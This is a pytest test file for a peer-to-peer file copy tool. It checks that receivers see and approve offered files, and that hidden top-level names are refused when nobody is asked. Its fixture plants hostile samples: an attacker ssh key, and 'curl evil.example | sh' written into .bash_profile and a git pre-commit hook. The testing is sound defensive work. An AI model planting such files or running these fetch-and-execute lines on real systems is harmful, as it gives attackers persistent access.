"""The receiver sees what the sender offers before anything is written, and decides.

Finding 3 of issue 17: a sender planted ``.ssh/authorized_keys``, ``.bash_profile``, a git
hook and an autostart entry in the receiver's current folder without a word. Now a
terminal shows the offer and asks; where nobody can be asked (no terminal, --json, the
Python API, a notebook), hidden top-level names are refused unless allowed.
"""

from __future__ import annotations

import asyncio
import os
import select
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Awaitable
from pathlib import Path

import pytest

import p2p_copy
from p2p_copy.display.progress import NoProgress, offer_lines
from p2p_copy.errors import (
    CancelledError,
    PeerGoneError,
    PolicyError,
    TransferTimeoutError,
    UsageError,
)
from p2p_copy.protocol.messages import DirEntry, FileEntry, StreamEntry
from p2p_copy.protocol.policy import OfferSummary, ReceivePolicy, check_offer, summarize_offer
from p2p_copy.relay import Relay

from .conftest import Processes, cli_env

TIMEOUT = 60.0
#: A name that shows reversed on a terminal unless the override is escaped.
BIDI_NAME = "invoice\u202efdp.exe"


def _code() -> str:
    return f"{uuid.uuid4().hex[:12]}-offer"


def _planted(root: Path) -> list[Path]:
    """What the review's hostile sender sent, next to an honest report.pdf; returns the
    paths to send (as a sender in that folder would name them)."""
    (root / ".ssh").mkdir(parents=True)
    (root / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (root / ".bash_profile").write_text("curl evil.example | sh\n")
    hooks = root / "project" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    (hooks / "pre-commit").chmod(0o755)
    (root / "project" / "README").write_text("a project\n")
    (root / ".config" / "autostart").mkdir(parents=True)
    (root / ".config" / "autostart" / "update.desktop").write_text("[Desktop Entry]\n")
    (root / "report.pdf").write_bytes(b"%PDF-1.4 honest\n")
    return [root / n for n in (".ssh", ".bash_profile", "project", ".config", "report.pdf")]


def _fake_home(tmp_path: Path) -> tuple[Path, set[str]]:
    """A home folder with a file of its own; returns it and what it holds."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "notes.txt").write_text("mine\n")
    return home, _tree(home)


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


# --- the summary: one pure function ---------------------------------------------------


def test_summary_names_the_top_level_and_points_out_what_deserves_a_look() -> None:
    """summarize_offer lists top-level names, counts, bytes, hidden tops, executables, hooks."""
    summary = summarize_offer([
        DirEntry(".ssh"), FileEntry(".ssh/authorized_keys", 10),
        FileEntry(".bash_profile", 5),
        DirEntry("project"), DirEntry("project/.git"), DirEntry("project/.git/hooks"),
        FileEntry("project/.git/hooks/pre-commit", 7, mode=0o755),
        FileEntry("project/.git/config", 3), FileEntry("project/.gitignore", 1),
        FileEntry("project/build.sh", 2, mode=0o700),
        FileEntry("report.pdf", 100),
    ])
    assert summary.top_level == (".ssh/", ".bash_profile", "project/", "report.pdf")
    assert summary.hidden == (".ssh/", ".bash_profile")
    assert (summary.files, summary.folders, summary.total_bytes) == (7, 4, 128)
    assert summary.executables == ("project/.git/hooks/pre-commit", "project/build.sh")
    assert summary.git_hooks == ("project/.git/hooks/pre-commit", "project/.git/config")
    # .git, .git/hooks, the hook, .git/config and .gitignore: counted, not refused.
    assert summary.hidden_inside == 5
    check_offer(summary, ReceivePolicy(allow_hidden=True))
    with pytest.raises(PolicyError, match=r"'\.ssh/', '\.bash_profile'.*--allow-hidden"):
        check_offer(summary, ReceivePolicy())


def test_a_git_checkout_without_hidden_top_level_names_passes_unasked() -> None:
    """Hidden names inside a sent folder are ordinary (a git checkout): never refused."""
    entries = [DirEntry("repo"), DirEntry("repo/.git"), FileEntry("repo/.git/HEAD", 21),
               FileEntry("repo/.gitignore", 4), StreamEntry("repo/log", mode=0o644)]
    summary = summarize_offer(entries)
    assert summary.hidden == () and summary.stream
    check_offer(summary, ReceivePolicy())


@pytest.mark.parametrize("name", ["\u200c.ssh", "\ufeff.bashrc", "\u200e.config"])
def test_a_dot_behind_an_ignored_code_point_is_still_hidden(name: str) -> None:
    """HFS+ drops U+200C and its kin, so "\u200c.ssh" lands as ".ssh": it is hidden and
    refused where nobody is asked (review of issue 17, finding 3)."""
    summary = summarize_offer([DirEntry(name), FileEntry(name + "/authorized_keys", 1)])
    assert summary.hidden == (name + "/",)
    with pytest.raises(PolicyError):
        check_offer(summary, ReceivePolicy())


def test_offer_lines_escape_the_names_the_sender_chose() -> None:
    """Bidi overrides and zero-width characters in offered names reach a terminal escaped."""
    lines = offer_lines(summarize_offer([FileEntry(BIDI_NAME, 1, mode=0o755),
                                         FileEntry(".zero\u200bwidth", 1)]))
    text = "\n".join(lines)
    assert "\u202e" not in text and "\u200b" not in text
    assert "invoice\\u202efdp.exe" in text and ".zero\\u200bwidth" in text
    assert "Executable" in text and "Hidden" in text


def test_allow_hidden_must_be_a_bool() -> None:
    """ReceivePolicy(allow_hidden=...) takes True or False, not a truthy value."""
    with pytest.raises(UsageError, match="allow_hidden"):
        ReceivePolicy(allow_hidden="yes")  # type: ignore[arg-type]


# --- the Python API: nobody to ask, the policy decides ---------------------------------


@pytest.mark.timeout(120)
async def test_api_refuses_hidden_top_level_names_before_any_byte(
    relay: Relay, tmp_path: Path
) -> None:
    """receive() without allow_hidden refuses the planted offer; nothing, not even dest, is made."""
    paths = _planted(tmp_path / "src")
    dest = tmp_path / "dest"
    code = _code()
    async with asyncio.timeout(TIMEOUT):
        results = await asyncio.gather(
            p2p_copy.send(relay.url, code, paths, progress="none"),
            p2p_copy.receive(relay.url, code, dest, progress="none"),
            return_exceptions=True)
    sent, received = results
    assert isinstance(received, PolicyError), received
    assert "'.ssh/', '.bash_profile', '.config/'" in str(received)
    assert isinstance(sent, PolicyError), sent
    assert not dest.exists()


@pytest.mark.timeout(120)
async def test_api_allow_hidden_receives_them(relay: Relay, tmp_path: Path) -> None:
    """ReceivePolicy(allow_hidden=True) takes the same offer whole, modes kept."""
    paths = _planted(tmp_path / "src")
    dest = tmp_path / "dest"
    code = _code()
    async with asyncio.timeout(TIMEOUT):
        await asyncio.gather(
            p2p_copy.send(relay.url, code, paths, progress="none"),
            p2p_copy.receive(relay.url, code, dest, progress="none",
                             policy=ReceivePolicy(allow_hidden=True)))
    assert (dest / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA attacker\n"
    assert (dest / "project" / ".git" / "hooks" / "pre-commit").stat().st_mode & 0o100


@pytest.mark.timeout(120)
async def test_notebook_panel_shows_the_offer_and_applies_the_policy(
    relay: Relay, tmp_path: Path
) -> None:
    """The panel lists the offer (hidden and executable entries pointed out) and cannot ask."""
    pytest.importorskip("ipywidgets")
    from p2p_copy.display.notebook import WidgetProgress

    paths = _planted(tmp_path / "src")
    (tmp_path / "src" / BIDI_NAME).write_text("x")
    panel = WidgetProgress("receive", display=False)
    code = _code()
    async with asyncio.timeout(TIMEOUT):
        _, received = await asyncio.gather(
            p2p_copy.send(relay.url, code, [*paths, tmp_path / "src" / BIDI_NAME],
                          progress="none"),
            p2p_copy.receive(relay.url, code, tmp_path / "dest", progress=panel),
            return_exceptions=True)
    assert isinstance(received, PolicyError)
    shown = panel.offered.value
    assert "7 files" in shown and "report.pdf" in shown
    assert "Hidden" in shown and ".bash_profile" in shown
    assert "Executable" in shown and "project/.git/hooks/pre-commit" in shown
    assert "\u202e" not in shown and "invoice\\u202efdp.exe" in shown
    assert panel.state.startswith("failed: The sender offers hidden")
    assert not (tmp_path / "dest").exists()


# --- the CLI without a terminal: the finding's fake $HOME -------------------------------


@pytest.mark.timeout(120)
def test_fake_home_gets_nothing_from_a_receive_nobody_was_asked_about(
    processes: Processes, tmp_path: Path
) -> None:
    """`p2p-copy receive` in a fake $HOME, stdin not a terminal: refused (19), home unchanged."""
    _, url = processes.start_relay()
    paths = _planted(tmp_path / "src")
    home, before = _fake_home(tmp_path)
    code = _code()
    env = cli_env(HOME=str(home))
    receiver = processes.start("receive", url, code, env=env, cwd=home)
    sender = processes.start("send", url, code, *map(str, paths))
    _, r_err = receiver.communicate(timeout=TIMEOUT)
    _, s_err = sender.communicate(timeout=TIMEOUT)
    assert receiver.returncode == PolicyError.exit_code, r_err
    assert sender.returncode == PolicyError.exit_code, s_err
    assert _tree(home) == before
    line, = r_err.strip().splitlines()  # one clear line
    assert "hidden entries at the top level, '.ssh/', '.bash_profile', '.config/'" in line
    assert "--allow-hidden" in line


@pytest.mark.timeout(120)
def test_allow_hidden_on_the_command_line(processes: Processes, tmp_path: Path) -> None:
    """--allow-hidden (no terminal) takes hidden top-level names."""
    _, url = processes.start_relay()
    paths = _planted(tmp_path / "src")
    out = tmp_path / "out"
    code = _code()
    receiver = processes.start("receive", url, code, "--out", str(out), "--allow-hidden")
    sender = processes.start("send", url, code, *map(str, paths))
    _, r_err = receiver.communicate(timeout=TIMEOUT)
    sender.communicate(timeout=TIMEOUT)
    assert receiver.returncode == 0, r_err
    assert (out / ".bash_profile").exists() and (out / ".config/autostart/update.desktop").exists()


# --- the CLI on a terminal: it asks --------------------------------------------------


class Terminal:
    """A receiver CLI whose stdin and stderr are a pseudo-terminal (stdout is a pipe)."""

    def __init__(self, processes: Processes, *args: str, cwd: Path, env: dict[str, str]) -> None:
        import pty

        self.master, slave = pty.openpty()
        try:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "p2p_copy", *args], stdin=slave, stderr=slave,
                stdout=subprocess.PIPE, cwd=cwd, env=env)
        finally:
            os.close(slave)
        processes.procs.append(self.proc)  # type: ignore[arg-type]
        self.seen = b""

    def read_until(self, text: str, timeout: float = TIMEOUT) -> str:
        """What the terminal showed up to ``text``; fails the test if it never shows."""
        deadline = time.monotonic() + timeout
        while text.encode() not in self.seen:
            ready, _, _ = select.select([self.master], [], [], max(deadline - time.monotonic(),
                                                                 0))
            if not ready:
                pytest.fail(f"{text!r} never showed; the terminal had {self.seen!r}")
            try:
                data = os.read(self.master, 4096)
            except OSError:  # EIO: the process closed the terminal
                data = b""
            if not data:
                pytest.fail(f"{text!r} never showed; the terminal had {self.seen!r}")
            self.seen += data
        return self.seen.decode(errors="replace")

    def type(self, keys: bytes) -> None:
        os.write(self.master, keys)

    def finish(self) -> tuple[int, str]:
        """Exit code and everything the terminal showed."""
        self.proc.wait(timeout=TIMEOUT)
        while True:
            try:
                ready, _, _ = select.select([self.master], [], [], 0)
                data = os.read(self.master, 4096) if ready else b""
            except OSError:
                data = b""
            if not data:
                break
            self.seen += data
        os.close(self.master)
        if self.proc.stdout is not None:
            self.proc.stdout.close()
        return self.proc.returncode, self.seen.decode(errors="replace")


@pytest.mark.slow
@pytest.mark.timeout(120)
@pytest.mark.parametrize("keys", [b"n\n", b"\n", b"\x04"], ids=["no", "enter", "end-of-input"])
def test_terminal_shows_the_offer_and_a_no_writes_nothing(
    processes: Processes, tmp_path: Path, keys: bytes
) -> None:
    """On a terminal the offer is shown and asked about; n, Enter or Ctrl-D decline it:
    nothing written, the sender told politely (exit 6)."""
    _, url = processes.start_relay()
    paths = _planted(tmp_path / "src")
    (tmp_path / "src" / BIDI_NAME).write_text("x")
    home, before = _fake_home(tmp_path)
    code = _code()
    terminal = Terminal(processes, "receive", url, code, cwd=home, env=cli_env(HOME=str(home)))
    sender = processes.start("send", url, code, *map(str, paths), str(tmp_path / "src" / BIDI_NAME))
    shown = terminal.read_until("[y/N]")
    assert "The sender offers 7 files and 6 folders" in shown
    assert "'.ssh/', '.bash_profile', 'project/', '.config/', 'report.pdf'" in shown
    assert "Hidden, at the top level" in shown
    assert "Executable: 'project/.git/hooks/pre-commit'" in shown
    assert "Git hooks or config" in shown
    assert "invoice\\u202efdp.exe" in shown and "\u202e" not in shown
    assert f"Receive into {home}?" in shown
    assert _tree(home) == before  # asked before any byte
    terminal.type(keys)
    code_, shown = terminal.finish()
    _, s_err = sender.communicate(timeout=TIMEOUT)
    assert code_ == CancelledError.exit_code, shown
    assert "declined the offer; nothing was written" in shown
    assert sender.returncode == PeerGoneError.exit_code, s_err
    assert "The receiver declined the offer" in s_err
    assert _tree(home) == before


@pytest.mark.timeout(120)
def test_terminal_yes_receives_everything_offered(processes: Processes, tmp_path: Path) -> None:
    """Answering y takes the offer as shown, hidden names included (the person saw them)."""
    _, url = processes.start_relay()
    paths = _planted(tmp_path / "src")
    home, _ = _fake_home(tmp_path)
    code = _code()
    terminal = Terminal(processes, "receive", url, code, cwd=home, env=cli_env(HOME=str(home)))
    sender = processes.start("send", url, code, *map(str, paths))
    terminal.read_until("[y/N]")
    terminal.type(b"y\n")
    code_, shown = terminal.finish()
    _, s_err = sender.communicate(timeout=TIMEOUT)
    assert code_ == 0, shown
    assert sender.returncode == 0, s_err
    assert (home / ".ssh" / "authorized_keys").exists() and (home / "report.pdf").exists()


@pytest.mark.slow
@pytest.mark.timeout(120)
def test_yes_option_skips_the_question_but_not_the_hidden_rule(
    processes: Processes, tmp_path: Path
) -> None:
    """--yes on a terminal asks nothing: a plain offer arrives, hidden names need --allow-hidden."""
    _, url = processes.start_relay()
    src = tmp_path / "src"
    src.mkdir()
    (src / "report.pdf").write_text("pdf")
    (src / ".bashrc").write_text("evil")
    home, before = _fake_home(tmp_path)
    runs = [((src / "report.pdf",), (), 0), ((src / ".bashrc",), (), PolicyError.exit_code),
            ((src / ".bashrc",), ("--allow-hidden",), 0)]
    for sent, extra, expected in runs:
        code = _code()
        terminal = Terminal(processes, "receive", url, code, "--yes", *extra, cwd=home,
                            env=cli_env(HOME=str(home)))
        sender = processes.start("send", url, code, *map(str, sent))
        code_, shown = terminal.finish()
        sender.communicate(timeout=TIMEOUT)
        assert code_ == expected, shown
        assert "[y/N]" not in shown
        assert "The sender offers 1 file" in shown  # still shown on the terminal
    assert _tree(home) == before | {"report.pdf", ".bashrc"}


def _asked(processes: Processes, tmp_path: Path,
           *receive_options: str) -> tuple[Terminal, subprocess.Popen[str], Path, set[str]]:
    """A receiver in a pty (a fake $HOME as its folder) asked about a sender's report.pdf."""
    _, url = processes.start_relay()
    src = tmp_path / "report.pdf"
    src.write_text("pdf")
    home, before = _fake_home(tmp_path)
    code = _code()
    terminal = Terminal(processes, "receive", url, code, *receive_options, cwd=home,
                        env=cli_env(HOME=str(home)))
    sender = processes.start("send", url, code, str(src))
    terminal.read_until("[y/N]")
    return terminal, sender, home, before


@pytest.mark.timeout(120)
def test_a_sender_that_gives_up_ends_the_question(processes: Processes, tmp_path: Path) -> None:
    """While the person reads, the sender may leave: the question ends with its reason."""
    terminal, sender, home, before = _asked(processes, tmp_path)
    sender.send_signal(signal.SIGTERM)  # cancels: the sender says so before it leaves
    sender.communicate(timeout=TIMEOUT)
    code_, shown = terminal.finish()
    assert code_ == PeerGoneError.exit_code, shown
    assert "The sender cancelled the transfer" in shown
    assert _tree(home) == before


@pytest.mark.slow
@pytest.mark.timeout(120)
def test_a_connection_lost_while_asked_is_not_reconnected(
    processes: Processes, tmp_path: Path
) -> None:
    """A drop while the person reads the question declines the offer instead of
    reconnecting: on a new attempt a sender could offer something else, which an answer
    being typed for this offer must not accept (review of issue 17, finding 3)."""
    terminal, sender, home, before = _asked(processes, tmp_path, "--reconnect-timeout", "120")
    sender.kill()  # no goodbye: the relay reports the peer gone, as a drop would look
    sender.communicate(timeout=TIMEOUT)
    code_, shown = terminal.finish()  # before: reconnected and waited for a new offer
    assert code_ == CancelledError.exit_code, shown
    assert "declined" in shown and "reconnect" not in shown.lower()
    assert _tree(home) == before


@pytest.mark.timeout(120)
def test_ctrl_c_while_asked_cancels_and_writes_nothing(
    processes: Processes, tmp_path: Path
) -> None:
    """Ctrl-C (SIGINT) at the question cancels: exit 130, nothing written, the sender told."""
    terminal, sender, home, before = _asked(processes, tmp_path)
    terminal.proc.send_signal(signal.SIGINT)
    code_, shown = terminal.finish()
    _, s_err = sender.communicate(timeout=TIMEOUT)
    assert code_ == CancelledError.exit_code, shown
    assert sender.returncode == PeerGoneError.exit_code, s_err
    assert "The receiver cancelled the transfer" in s_err
    assert _tree(home) == before


class _Asking(NoProgress):
    """A display that asks someone (here: answers ``answer`` after ``wait`` is set)."""

    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.asked: list[OfferSummary] = []
        self.wait = asyncio.Event()

    def offer(self, summary: OfferSummary) -> Awaitable[bool] | None:
        self.asked.append(summary)
        return self._reply()

    async def _reply(self) -> bool:
        await self.wait.wait()
        return self.answer


@pytest.mark.timeout(120)
async def test_a_display_that_asks_decides_instead_of_the_policy(
    relay: Relay, tmp_path: Path
) -> None:
    """An asking display's yes takes hidden names without allow_hidden (the person saw them)."""
    paths = _planted(tmp_path / "src")
    display = _Asking(True)
    display.wait.set()
    code = _code()
    async with asyncio.timeout(TIMEOUT):
        await asyncio.gather(
            p2p_copy.send(relay.url, code, paths, progress="none"),
            p2p_copy.receive(relay.url, code, tmp_path / "dest", progress=display))
    assert [s.hidden for s in display.asked] == [(".ssh/", ".bash_profile", ".config/")]
    assert (tmp_path / "dest" / ".bash_profile").exists()


@pytest.mark.timeout(120)
async def test_an_unanswered_offer_is_declined_after_the_offer_timeout(
    relay: Relay, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nobody answers within OFFER_TIMEOUT: declined as a timeout on both sides, nothing written."""
    from p2p_copy.peer import receiving

    monkeypatch.setattr(receiving, "OFFER_TIMEOUT", 0.5)
    src = tmp_path / "report.pdf"
    src.write_text("pdf")
    code = _code()
    async with asyncio.timeout(TIMEOUT):
        sent, received = await asyncio.gather(
            p2p_copy.send(relay.url, code, src, progress="none"),
            p2p_copy.receive(relay.url, code, tmp_path / "dest", progress=_Asking(True)),
            return_exceptions=True)
    assert isinstance(received, TransferTimeoutError), received
    assert "Nobody answered" in str(received)
    assert isinstance(sent, TransferTimeoutError) and "Nobody answered" in str(sent)
    assert not (tmp_path / "dest").exists()
